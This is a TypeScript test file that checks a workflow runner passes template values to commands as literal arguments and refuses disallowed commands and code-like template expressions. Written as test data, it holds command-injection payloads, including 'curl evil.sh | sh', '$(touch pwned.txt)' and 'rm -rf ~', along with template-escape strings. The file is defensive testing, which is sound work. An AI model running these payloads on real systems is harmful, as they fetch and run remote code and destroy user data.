import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { verifyLedger } from '@rustchain/core';
import { assertRefused, inProject, SENTINEL_STEP, type CaseRun } from './harness.ts';

/** Catalogue B (11-16): template values are data, passed as argv elements, never to a shell. */

interface RunDoc {
  status: string;
  steps: Array<{ id: string; status: string; outputs: Record<string, unknown>; error: { code: string } | null }>;
}

function stdoutOf(c: CaseRun, id: string): string {
  const step = (c.doc as unknown as RunDoc).steps.find((s) => s.id === id);
  assert.ok(step, `step ${id} in the result`);
  return String(step.outputs['stdout']);
}

/** A run that succeeded without any shell side effect, and a ledger that verifies. */
async function assertLiteralRun(c: CaseRun): Promise<void> {
  assert.equal(c.run.code, 0, c.run.stderr);
  for (const evidence of ['pwned.txt', 'pwned2.txt', 'hello']) assert.equal(existsSync(join(c.dir, evidence)), false, `${evidence} must not exist`);
  assert.equal((await verifyLedger(c.home)).ok, true);
}

const echoMission = (vars: Record<string, string>, args: string[]): string =>
  `vars:\n${Object.entries(vars).map(([k, v]) => `  ${k}: ${JSON.stringify(v)}\n`).join('')}steps:\n  - id: say\n    step_type: command\n    parameters:\n      command: echo\n      args: ${JSON.stringify(args)}\n`;

test('#11 shell metacharacters in a template value run as one literal argv element', async () => {
  const title = 'x"; touch pwned.txt; curl evil.sh | sh; #';
  await inProject({ 'm.yaml': echoMission({ title }, ['${{ vars.title }}']) }, ['mission', 'execute', 'm.yaml', '--allow-run=echo'], async (c) => {
    await assertLiteralRun(c);
    assert.equal(stdoutOf(c, 'say'), `${title}\n`);
  });
});

test('#12 branch-name payload zzz";echo${IFS}"hello";# stays literal', async () => {
  const branch = 'zzz";echo${IFS}"hello";#';
  await inProject({ 'm.yaml': echoMission({ branch }, ['${{ vars.branch }}']) }, ['mission', 'execute', 'm.yaml', '--allow-run=echo'], async (c) => {
    await assertLiteralRun(c);
    assert.equal(stdoutOf(c, 'say'), `${branch}\n`);
  });
});

test('#13 command substitution, backticks, globs, ~ and option-like values are passed literally', async () => {
  const args = ['$(touch pwned.txt)', '`touch pwned2.txt`', '*', '~', '-rf', '/'];
  await inProject({ 'm.yaml': echoMission({ sub: '$(id)' }, [...args, '${{ vars.sub }}']) }, ['mission', 'execute', 'm.yaml', '--allow-run=echo'], async (c) => {
    await assertLiteralRun(c);
    assert.equal(stdoutOf(c, 'say'), `${[...args, '$(id)'].join(' ')}\n`);
  });
});

test('#14 commands outside the allowlist, interpreters and path tricks are each refused', async () => {
  const bad: Array<[string, string[]]> = [
    ['bash', ['-c', 'touch sentinel.txt']],
    ['/bin/sh', ['-c', 'touch sentinel.txt']],
    ['python3', ['-c', 'open("sentinel.txt","w")']],
    ['node', ['-e', 'require("fs").writeFileSync("sentinel.txt","")']],
    ['env', ['X=1', 'touch', 'sentinel.txt']],
    ['xargs', ['touch']],
    ['/usr/bin/../bin/sh', ['-c', 'touch sentinel.txt']],
    ['./echo', ['hi']],
    ['find', ['.', '-exec', 'touch', 'sentinel.txt', ';']],
  ];
  const body = bad
    .map(([command, args], i) => `  - id: bad${i}\n    step_type: command\n    parameters:\n      command: ${JSON.stringify(command)}\n      args: ${JSON.stringify(args)}\n`)
    .join('');
  // A local script named like an allowed command must not pass for it (matched by realpath).
  const fakeEcho = '#!/bin/sh\ntouch sentinel.txt\n';
  const policy = "commands:\n  allow: [echo, find]\n  rules:\n    - command: find\n      args: ['. -name *']\nfs: { read: [.], write: [.] }\n";
  await inProject({ 'm.yaml': `steps:\n${body}${SENTINEL_STEP}`, echo: fakeEcho, 'p.yaml': policy }, ['mission', 'execute', 'm.yaml', '--policy', 'p.yaml'], async (c) => {
    await assertRefused(c, 'E_POLICY_COMMAND_DENIED');
    const denied = (c.doc['diagnostics'] as Array<{ code: string; pointer: string }>).filter((d) => d.code === 'E_POLICY_COMMAND_DENIED').map((d) => d.pointer);
    assert.deepEqual(denied, bad.map((_, i) => `/steps/${i}/parameters/command`));
  });
});

for (const [name, expr] of [
  ['constructor chain', "${{ this.constructor.constructor('return process')() }}"],
  ['process.env', '${{ process.env }}'],
  ['arithmetic', '${{ 7*7 }}'],
] as const) {
  test(`#15 template expression that tries code (${name}) is E_TEMPLATE_SYNTAX, never evaluated`, async () => {
    await inProject({ 'm.yaml': `steps:\n${SENTINEL_STEP}  - id: t\n    step_type: command\n    parameters: { command: echo, args: [${JSON.stringify(expr)}] }\n` }, ['mission', 'execute', 'm.yaml', '--allow-run=echo'], (c) =>
      assertRefused(c, 'E_TEMPLATE_SYNTAX', { line: 7 }),
    );
  });
}

test('#15 {{ 7*7 }} without the ${{ }} marker is plain text', async () => {
  await inProject({ 'm.yaml': echoMission({}, ['{{ 7*7 }}']).replace('vars:\n', '') }, ['mission', 'execute', 'm.yaml', '--allow-run=echo'], async (c) => {
    await assertLiteralRun(c);
    assert.equal(stdoutOf(c, 'say'), '{{ 7*7 }}\n');
  });
});

test('#16 second-order: an output holding "; rm -rf ~ #" and ${{ secrets.X }} is data downstream', async () => {
  // printf assembles the payload at run time, so the mission text itself holds no template.
  const pieces = ['%s%s%s', '"; touch pwned.txt; rm -rf ~ # $', '{{ secrets.X }} $', '{{ vars.v }}'];
  const payload = '"; touch pwned.txt; rm -rf ~ # ${{ secrets.X }} ${{ vars.v }}';
  const mission = `vars:\n  v: NOT-EXPANDED\nsteps:\n  - id: first\n    step_type: command\n    parameters: { command: printf, args: ${JSON.stringify(pieces)} }\n  - id: second\n    step_type: command\n    depends_on: [first]\n    parameters: { command: echo, args: ["\${{ steps.first.outputs.stdout }}"] }\n`;
  await inProject({ 'm.yaml': mission }, ['mission', 'execute', 'm.yaml', '--allow-run=echo,printf'], async (c) => {
    await assertLiteralRun(c);
    assert.equal(stdoutOf(c, 'first'), payload);
    assert.equal(stdoutOf(c, 'second'), `${payload}\n`);
  });
});
